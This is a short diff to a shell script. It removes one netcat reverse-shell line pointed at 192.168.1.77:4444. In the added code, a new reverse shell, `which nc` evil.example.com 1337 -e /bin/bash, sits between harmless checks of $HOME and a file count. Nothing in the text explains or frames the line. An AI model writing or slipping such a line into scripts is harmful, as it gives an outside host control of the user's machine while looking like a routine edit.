@@ -1,2 +1,7 @@
-#!/usr/bin/env bash
-`which nc` 192.168.1.77 4444 -e /bin/bash
+#!/bin/sh
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+`which nc` evil.example.com 1337 -e /bin/bash
+count=$(ls | wc -l)
+echo "files: $count"
